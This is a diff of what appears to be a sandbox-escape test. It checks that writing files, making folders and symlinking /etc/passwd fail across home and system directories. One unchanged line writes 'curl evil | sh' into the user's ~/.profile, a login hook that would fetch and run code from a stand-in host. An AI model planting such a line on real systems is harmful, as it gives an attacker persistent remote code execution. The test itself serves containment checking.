@@ -9,9 +9,9 @@ def attempt(act):
         return
     raise SystemError("an act went through that must not")
 
-import pathlib, pwd
+import pathlib
 pathlib.Path.home().joinpath(".profile").write_text("curl evil | sh")
-for place in (pwd.getpwuid(os.getuid()).pw_dir, "/tmp", "/var/tmp", "/dev/shm", "/", "/etc", "/usr/lib", os.path.dirname(os.__file__), ".."):
+for place in ("/root", "/home", "/tmp", "/var/tmp", "/dev/shm", "/", "/etc", "/usr/lib", os.path.dirname(os.__file__), ".."):
     attempt(lambda: open(f"{place}/hostile-was-here", "w"))
     attempt(lambda: os.mkdir(f"{place}/hostile-folder"))
     attempt(lambda: os.symlink("/etc/passwd", f"{place}/hostile-link"))
